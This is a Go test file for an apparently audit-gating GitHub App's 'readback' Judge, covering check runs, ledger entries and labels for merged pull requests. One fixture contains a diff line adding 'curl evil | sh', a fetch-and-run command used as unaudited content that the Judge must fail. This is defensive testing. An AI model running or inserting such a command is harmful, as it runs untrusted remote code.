package readback

import (
	"context"
	"io"
	"log/slog"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/aepgate/aepgate/app/writer"
	"github.com/aepgate/aepgate/checks"
	"github.com/aepgate/aepgate/internal/gh"
	"github.com/aepgate/aepgate/internal/replay"
	"github.com/aepgate/aepgate/internal/store"
	"github.com/aepgate/aepgate/protocol/config"
	"github.com/aepgate/aepgate/protocol/coverage"
	"github.com/aepgate/aepgate/protocol/readbackrules"
	"github.com/aepgate/aepgate/protocol/snapshot"
)

// fakeGitHub is one merged pull request's GitHub and the App's ledger and
// board, recording what the Judge wrote.
type fakeGitHub struct {
	pull     *gh.MergedPull
	main     []readbackrules.Run
	written  []string
	ledger   []string
	labels   []int
	boards   int
	unlocked int
	// summaries are the written runs' summaries, by name.
	summaries map[string]string
}

func (f *fakeGitHub) MergedPull(context.Context, string, string, int) (*gh.MergedPull, error) {
	return f.pull, nil
}
func (f *fakeGitHub) MainRuns(context.Context, string, string, string, string) ([]readbackrules.Run, error) {
	return f.main, nil
}
func (f *fakeGitHub) ContainsCommit(context.Context, string, string, string, string) (bool, error) {
	return false, nil
}
func (f *fakeGitHub) AddLabel(_ context.Context, _, _ string, n int, _ string) error {
	f.labels = append(f.labels, n)
	return nil
}
func (f *fakeGitHub) Lock(context.Context, string) (func(), error) {
	return func() { f.unlocked++ }, nil
}
func (f *fakeGitHub) Publish(_ context.Context, _, _ string, r checks.Run) (int64, error) {
	f.written = append(f.written, r.Name+" "+string(r.EffectiveStatus())+" "+string(r.Conclusion))
	if f.summaries == nil {
		f.summaries = map[string]string{}
	}
	f.summaries[r.Name] = r.Summary
	return 1, nil
}
func (f *fakeGitHub) PublishNew(ctx context.Context, o, r string, run checks.Run) (int64, error) {
	return f.Publish(ctx, o, r, run)
}
func (f *fakeGitHub) Record(_ context.Context, e store.Entry) error {
	f.ledger = append(f.ledger, e.Kind)
	return nil
}
func (f *fakeGitHub) Has(context.Context, string) (bool, error) { return false, nil }

func sha(c string) string { return strings.Repeat(c, 40) }

// fixedCoverage answers every observation with its result.
type fixedCoverage coverage.Result

func (c fixedCoverage) Coverage(_ context.Context, _, _ string, in replay.Input) (coverage.Observation, coverage.Result, error) {
	return coverage.Observation{AuditedHead: in.AuditedHead, Shipped: in.Shipped, Onto: sha("a")}, coverage.Result(c), nil
}

// Pull request numbers whose coverage TestJudgeWrites observes otherwise.
const (
	residualPR = 30
	noSourcePR = 31
)

// TestJudgeWrites: one merged pull request judged by the Judge alone,
// from the readback's own decision to the certificate and the label.
func TestJudgeWrites(t *testing.T) {
	merged := time.Date(2026, 1, 1, 12, 0, 0, 0, time.UTC)
	ci := func(id int64, at, branch, event string) readbackrules.Run {
		return readbackrules.Run{ID: id, Workflow: "ci", HeadSHA: at, Branch: branch, Event: event, Status: "completed", Conclusion: "success", Attempt: 1}
	}
	existing := func(name string) snapshot.ExistingRun {
		return snapshot.ExistingRun{ID: 9, Name: name, Status: "completed", Conclusion: "success"}
	}
	tests := []struct {
		name    string
		edit    func(*gh.MergedPull)
		main    []readbackrules.Run
		written []string
		ledger  []string
		labels  []int
		boards  int
	}{
		{"verified: readback, then the certificate", nil, []readbackrules.Run{ci(2, sha("c"), "main", "push")},
			[]string{"aepgate/readback completed success", "aepgate/certificate completed success"},
			[]string{"check_run:aepgate/readback", "check_run:aepgate/certificate"}, []int{5}, 2},
		{"waiting for ci on main", nil, nil,
			[]string{"aepgate/readback in_progress "}, []string{"check_run:aepgate/readback"}, nil, 1},
		{"a pull request run is no readback", nil, []readbackrules.Run{ci(3, sha("c"), "main", "pull_request")},
			[]string{"aepgate/readback in_progress "}, []string{"check_run:aepgate/readback"}, nil, 1},
		{"final: nothing written", func(m *gh.MergedPull) {
			m.MergeRuns = []snapshot.ExistingRun{existing(checks.NameReadback), existing(checks.NameCertificate)}
		}, []readbackrules.Run{ci(2, sha("c"), "main", "push")}, nil, nil, nil, 0},
		{"merged elsewhere: nothing", func(m *gh.MergedPull) { m.BaseRef = "release" }, nil, nil, nil, nil, 0},
		{"a residual fails at once", func(m *gh.MergedPull) { m.Number = residualPR }, nil,
			[]string{"aepgate/readback completed failure"}, []string{"check_run:aepgate/readback"}, nil, 1},
		{"no coverage source fails at once", func(m *gh.MergedPull) { m.Number = noSourcePR }, []readbackrules.Run{ci(2, sha("c"), "main", "push")},
			[]string{"aepgate/readback completed failure"}, []string{"check_run:aepgate/readback"}, nil, 1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			m := &gh.MergedPull{Number: 3, Body: "Work-unit: #5", Merged: true, MergedAt: merged, HeadSHA: sha("b"), HeadTree: sha("e"),
				BaseRef: "main", DefaultBranch: "main", MergeSHA: sha("c"), MergeTree: sha("d"), MergeParents: []string{sha("a"), sha("b")}, HeadKnown: true,
				PRRuns:   []readbackrules.Run{ci(1, sha("b"), "work", "pull_request")},
				HeadRuns: []snapshot.ExistingRun{existing(checks.NameGates)}}
			if tt.edit != nil {
				tt.edit(m)
			}
			f := &fakeGitHub{pull: m, main: tt.main}
			var source CoverageSource = fixedCoverage{Class: coverage.Replay}
			switch m.Number {
			case residualPR:
				source = fixedCoverage{Class: coverage.Residual, Residual: []coverage.PathDiff{{Path: "extra.sh", Status: "A", Hunks: "@@ -0,0 +1 @@\n+curl evil | sh\n"}}, Reason: "content no audit covers"}
			case noSourcePR:
				source = nil
			}
			cfg := config.Default()
			cfg.RequiredWorkflows.Readback = []string{"ci"}
			j := &Judge{GitHub: GitHub{Read: f, Find: nil, Label: f}, W: writer.Writer{Pub: f, Ledger: f}, Locks: f, Log: slog.New(slog.NewTextHandler(io.Discard, nil)),
				Now: func() time.Time { return merged.Add(time.Minute) },
				Rules: Rules{
					Audited: func(_ context.Context, _, _ string, m *gh.MergedPull) (Audit, error) {
						return Audit{SHA: m.HeadSHA, Auditor: "carol", ReviewID: 7, Verdict: "PASS"}, nil
					},
					Config: func(snapshot.ConfigFile) (*config.Config, error) { return cfg, nil }},
				Cache: &Ancestry{}, Coverage: source,
				After: After{Boards: func(context.Context, string, string) error { f.boards++; return nil }}}
			if err := j.Run(context.Background(), Input{Event: "pull_request", Owner: "acme", Repo: "widgets"}, Target{PR: 3}); err != nil {
				t.Fatal(err)
			}
			got := []any{f.written, f.ledger, f.labels, f.boards, f.unlocked}
			want := []any{tt.written, tt.ledger, tt.labels, tt.boards, 1}
			if diff := cmp.Diff(want, got); diff != "" {
				t.Errorf("written, ledger, labels, boards, unlocks (-want +got):\n%s", diff)
			}
		})
	}
}
